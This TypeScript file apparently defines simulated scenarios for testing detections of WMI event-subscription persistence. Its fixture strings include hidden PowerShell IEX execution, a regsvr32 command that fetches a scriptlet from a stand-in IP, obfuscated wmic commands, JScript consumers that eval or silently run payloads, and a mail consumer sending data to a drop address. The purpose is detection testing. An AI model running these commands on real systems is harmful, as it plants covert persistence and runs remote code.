import type { Scenario, SimulatedSubscription } from '../model.ts'
import { CMD, console, MOFCOMP, POWERSHELL, register, SVCHOST, SYSTEM32, WMIC } from './acts.ts'
import { subscription, UPTIME, variant } from './parts.ts'

/** Further ways to create a subscription: what differs is what stands beside the same three objects. */
const MODULE = 'C:\\Users\\j.doe\\Desktop\\persist.ps1'
const byModule = subscription('Updater', UPTIME, 'CommandLineEventConsumer', {
  CommandLineTemplate: 'powershell.exe -NonI -W hidden -C "IEX (gc C:\\Users\\Public\\u.log -Raw)"',
})

/** A module of many functions, of which the last creates the objects: PowerShell records it in several pieces. */
const MODULE_TEXT = [
  ...Array.from(
    { length: 120 },
    (_, index) =>
      `function Get-Helper${index} {\r\n    param([string]$Name = 'helper${index}')\r\n    return "$Name of ${index}: " + (Get-Date).ToString('o')\r\n}\r\n`,
  ),
  'function Register-Updater($FilterArgs, $ConsumerArgs) {',
  '    $Filter = Set-WmiInstance -Namespace root/subscription -Class __EventFilter -Arguments $FilterArgs',
  '    $Consumer = Set-WmiInstance -Namespace root/subscription -Class CommandLineEventConsumer -Arguments $ConsumerArgs',
  '    Set-WmiInstance -Namespace root/subscription -Class __FilterToConsumerBinding -Arguments @{Filter = $Filter; Consumer = $Consumer} | Out-Null',
  '}',
].join('\r\n')

const moduleFunction = variant({
  id: 'module-function',
  title: 'A function of a dot-sourced module creates it',
  description:
    'The command names no class; the module is recorded in pieces, and the cmdlets with their evaluated parameters.',
  covers: ['C2', 'C5', 'C14', 'V1'],
  record(recorder) {
    console(recorder, POWERSHELL)
    recorder.scriptBlock(`. ${MODULE}`)
    recorder.scriptBlock(MODULE_TEXT, MODULE)
    recorder.wait(9000)
    recorder.scriptBlock('Register-Updater $f $c')
    for (const name of ['__EventFilter', 'CommandLineEventConsumer', '__FilterToConsumerBinding']) {
      recorder.pipeline(
        'Set-WmiInstance',
        [
          ['Namespace', 'root/subscription'],
          ['Class', name],
          ['Arguments', 'System.Collections.Hashtable'],
        ],
        MODULE,
      )
    }
    register(recorder, byModule)
  },
  stored: [byModule],
})

const byDatabase = subscription('SqlMaint', UPTIME, 'CommandLineEventConsumer', {
  ExecutablePath: 'C:\\ProgramData\\mssql\\maint.exe',
})

const obfuscated = variant({
  id: 'wmic-obfuscated',
  title: 'Obfuscated WMIC commands from a database server',
  description: 'xp_cmdshell starts cmd.exe; carets and quotes stand inside the words that rules look for.',
  covers: ['C1a', 'C15', 'V1'],
  record(recorder) {
    const server = 'C:\\Program Files\\Microsoft SQL Server\\MSSQL15.MSSQLSERVER\\MSSQL\\Binn\\sqlservr.exe'
    for (const [typed, received] of [
      [
        'wm^ic /nam""espace:\\\\.\\root\\subscr^iption PA""TH __Event^Filter CR""EATE Name="SqlMaint", EventNameSpace="root\\cimv2", QueryLanguage="WQL"',
        'wmic  /nam""espace:\\\\.\\root\\subscription PA""TH __EventFilter CR""EATE Name="SqlMaint", EventNameSpace="root\\cimv2", QueryLanguage="WQL"',
      ],
      [
        'wm^ic /nam""espace:\\\\.\\root\\subscr^iption PA""TH CommandLine""Event^Consumer CR""EATE Name="SqlMaint", ExecutablePath="C:\\ProgramData\\mssql\\maint.exe"',
        'wmic  /nam""espace:\\\\.\\root\\subscription PA""TH CommandLine""EventConsumer CR""EATE Name="SqlMaint", ExecutablePath="C:\\ProgramData\\mssql\\maint.exe"',
      ],
    ] as const) {
      recorder.process({
        image: CMD,
        commandLine: `"${CMD}" /c ${typed}`,
        parentImage: server,
        parentCommandLine: `"${server}" -sMSSQLSERVER`,
        integrity: 'System',
      })
      recorder.process({
        image: WMIC,
        commandLine: received,
        parentImage: CMD,
        parentCommandLine: `"${CMD}" /c ${typed}`,
        integrity: 'System',
      })
      recorder.wait(1500)
    }
    register(recorder, byDatabase, { user: 'NT AUTHORITY\\SYSTEM' })
  },
  stored: [byDatabase],
})

const byAccelerator = subscription('CacheCleaner', UPTIME, 'CommandLineEventConsumer', {
  CommandLineTemplate: `${SYSTEM32}regsvr32.exe /s /u /i:http://192.0.2.77/c.sct scrobj.dll`,
})

const typeAccelerator = variant({
  id: 'type-accelerator',
  title: 'Type accelerators with split class names',
  description:
    'No cmdlet of WMI is called: [wmiclass], CreateInstance and Put, the names joined at run time.',
  covers: ['C4', 'V1'],
  record(recorder) {
    console(recorder, POWERSHELL)
    recorder.scriptBlock(
      [
        "$f = ([wmiclass]('\\\\.\\root\\subscription:__Event' + 'Filter')).CreateInstance()",
        `$f.Name = 'CacheCleaner'; $f.QueryLanguage = 'WQL'; $f.EventNamespace = 'root\\cimv2'; $f.Query = $q`,
        '$rf = $f.Put()',
        "$c = ([wmiclass]('\\\\.\\root\\subscription:CommandLine' + 'Event' + 'Consumer')).CreateInstance()",
        "$c.Name = 'CacheCleaner'; $c.CommandLineTemplate = $t",
        '$rc = $c.Put()',
        "$b = ([wmiclass]('\\\\.\\root\\subscription:__FilterTo' + 'ConsumerBinding')).CreateInstance()",
        '$b.Filter = $rf.Path; $b.Consumer = $rc.Path; $b.Put() | Out-Null',
      ].join('\r\n'),
    )
    register(recorder, byAccelerator, { absolute: true })
  },
  stored: [byAccelerator],
})

const byRenamed = subscription('NotesSync', UPTIME, 'CommandLineEventConsumer', {
  CommandLineTemplate: 'wscript.exe //B C:\\Users\\Public\\n.vbs',
})

const renamedCompiler = variant({
  id: 'mofcomp-renamed',
  title: 'A renamed compiler and a MOF of another extension',
  description: 'A copy of mofcomp.exe compiles a text file into the namespace that its option names.',
  covers: ['C9a', 'V1'],
  record(recorder) {
    const shell = console(recorder, CMD)
    recorder.fileCreated(shell, 'C:\\Users\\Public\\notes.txt')
    recorder.process({
      image: 'C:\\Users\\Public\\mc.exe',
      copyOf: MOFCOMP,
      commandLine: 'C:\\Users\\Public\\mc.exe  -N:\\\\.\\root\\subscription C:\\Users\\Public\\notes.txt',
      parentImage: CMD,
      parentCommandLine: `"${CMD}" `,
      directory: 'C:\\Users\\Public\\',
    })
    register(recorder, byRenamed)
  },
  stored: [byRenamed],
})

const overWinRm = subscription('HealthAgent', UPTIME, 'ActiveScriptEventConsumer', {
  ScriptingEngine: 'JScript',
  ScriptText:
    'var s = new ActiveXObject("ADODB.Stream"); s.Type = 2; s.Open(); s.LoadFromFile("C:\\\\ProgramData\\\\h.txt"); eval(s.ReadText());',
})

const remoteWinRm = variant({
  id: 'remote-winrm',
  title: 'Created over PowerShell remoting',
  description: 'A network logon, the remoting host, and CIM cmdlets inside it.',
  covers: ['C11', 'V2'],
  record(recorder) {
    recorder.remoteLogon(recorder.account, '198.51.100.41')
    recorder.process({
      image: `${SYSTEM32}wsmprovhost.exe`,
      commandLine: `${SYSTEM32}wsmprovhost.exe -Embedding`,
      parentImage: SVCHOST,
      parentCommandLine: `${SVCHOST} -k DcomLaunch -p`,
    })
    recorder.scriptBlock(
      '$f = New-CimInstance -Namespace root/subscription -ClassName __EventFilter -Property $fp\r\n$c = New-CimInstance -Namespace root/subscription -ClassName ActiveScriptEventConsumer -Property $cp\r\nNew-CimInstance -Namespace root/subscription -ClassName __FilterToConsumerBinding -Property @{Filter = [Ref]$f; Consumer = [Ref]$c}',
    )
    register(recorder, overWinRm, { absolute: true })
  },
  stored: [overWinRm],
})

const byHand = subscription('Test', UPTIME, 'CommandLineEventConsumer', {
  CommandLineTemplate: 'cmd.exe /c start C:\\Temp\\t.exe',
})

const byWbemtest = variant({
  id: 'wbemtest',
  title: 'Created by hand in the WMI test tool',
  description: 'wbemtest.exe writes the objects; its command line names nothing.',
  covers: ['C13', 'V1'],
  record(recorder) {
    console(recorder, `${SYSTEM32}wbem\\wbemtest.exe`)
    recorder.wait(90_000)
    register(recorder, byHand)
  },
  stored: [byHand],
})

const deployed = subscription(
  'AgentWatch',
  "SELECT * FROM __InstanceDeletionEvent WITHIN 30 WHERE TargetInstance ISA 'Win32_Process' AND TargetInstance.Name = 'agent.exe'",
  'CommandLineEventConsumer',
  { CommandLineTemplate: 'C:\\ProgramData\\agent\\restart.cmd' },
  { creatorSid: 'S-1-5-18' },
)

const byInstaller = variant({
  id: 'software-deployment',
  title: 'Created by an installer package',
  description:
    'A custom action of an MSI package, run by the installer service as SYSTEM, writes the objects.',
  covers: ['C12', 'V1'],
  record(recorder) {
    recorder.process({
      image: `${SYSTEM32}msiexec.exe`,
      commandLine: `${SYSTEM32}MsiExec.exe -Embedding 3C1F0A5B8D2E E Global\\MSI0000`,
      parentImage: `${SYSTEM32}msiexec.exe`,
      parentCommandLine: `${SYSTEM32}msiexec.exe /V`,
      integrity: 'System',
    })
    register(recorder, deployed, { user: 'NT AUTHORITY\\SYSTEM' })
  },
  stored: [deployed],
})

const dropped: SimulatedSubscription = subscription(
  'sysnullevnt',
  UPTIME,
  'ActiveScriptEventConsumer',
  {
    ScriptingEngine: 'JScript',
    ScriptText: 'new ActiveXObject("WScript.Shell").Run("C:\\\\Windows\\\\Temp\\\\winsta.exe", 0);',
  },
  { creatorSid: 'S-1-5-18' },
)

const mofFolder = variant({
  id: 'mof-folder-drop',
  title: 'A MOF dropped into the folder that old Windows compiled by itself',
  description:
    'The print service writes a .mof under wbem\\mof; the service compiles it, no compiler is started.',
  covers: ['C9c', 'V2'],
  record(recorder) {
    const spooler = recorder.process({
      image: `${SYSTEM32}spoolsv.exe`,
      commandLine: `${SYSTEM32}spoolsv.exe`,
      parentImage: `${SYSTEM32}services.exe`,
      parentCommandLine: `${SYSTEM32}services.exe`,
      integrity: 'System',
    })
    recorder.wait(600_000)
    recorder.fileCreated(spooler, `${SYSTEM32}wbem\\mof\\sysnullevnt.mof`, 'NT AUTHORITY\\SYSTEM')
    recorder.wait(2000)
    register(recorder, dropped, { user: 'NT AUTHORITY\\SYSTEM' })
  },
  stored: [dropped],
})

const onShare = subscription(
  'LogonAudit',
  "SELECT * FROM __InstanceCreationEvent WITHIN 10 WHERE TargetInstance ISA 'Win32_NTLogEvent' AND TargetInstance.EventCode = 4625 GROUP WITHIN 300 HAVING NumberOfEvents > 3",
  'ActiveScriptEventConsumer',
  {
    KillTimeout: 45,
    MachineName: 'WS020',
    ScriptFileName: '\\\\192.0.2.8\\share\\audit.vbs',
    ScriptingEngine: 'VBScript',
  },
  { eventAccess: 'O:BAG:BAD:(A;;0x1;;;BA)' },
)

const scriptFile = variant({
  id: 'script-file',
  title: 'A script on a share, with properties that are seldom set',
  description:
    'ScriptFileName instead of text, MachineName, KillTimeout, EventAccess, and a query that groups events.',
  covers: ['V3', 'V14', 'V15', 'V16', 'V17'],
  record(recorder) {
    register(recorder, onShare)
  },
  stored: [onShare],
})

const mailed = subscription(
  'DiskAlert',
  'SELECT * FROM MSNdis_StatusMediaConnect',
  'SMTPEventConsumer',
  {
    FromLine: 'ws014@corp.example',
    Message: 'user %TargetInstance.UserName%',
    SMTPServer: '203.0.113.25',
    Subject: 'alert',
    ToLine: 'drop@mail.example',
  },
  { eventNamespace: 'root\\wmi' },
)
const logged = subscription(
  'DiskAlertLog',
  'SELECT * FROM MSNdis_StatusMediaConnect',
  'NTEventLogEventConsumer',
  {
    Category: 0,
    EventID: 8000,
    EventType: 1,
    InsertionStringTemplates: ['stage two: SQBFAFgA'],
    SourceName: 'WSH',
  },
  { eventNamespace: 'root\\wmi' },
)

const mailAndLog = variant({
  id: 'mail-and-log',
  title: 'Consumers that send mail and write to the event log',
  description: 'Neither runs code; the filter listens in another namespace than the objects lie in.',
  covers: ['V5', 'V6', 'V10'],
  record(recorder) {
    for (const item of [mailed, logged]) {
      recorder.filterWritten(item)
      recorder.bindingWritten(item)
      recorder.bindingRegistered(item)
      recorder.wait(5000)
    }
  },
  stored: [mailed, logged],
})

export const creations: readonly Scenario[] = [
  moduleFunction,
  obfuscated,
  typeAccelerator,
  renamedCompiler,
  remoteWinRm,
  byWbemtest,
  byInstaller,
  mofFolder,
  scriptFile,
  mailAndLog,
]
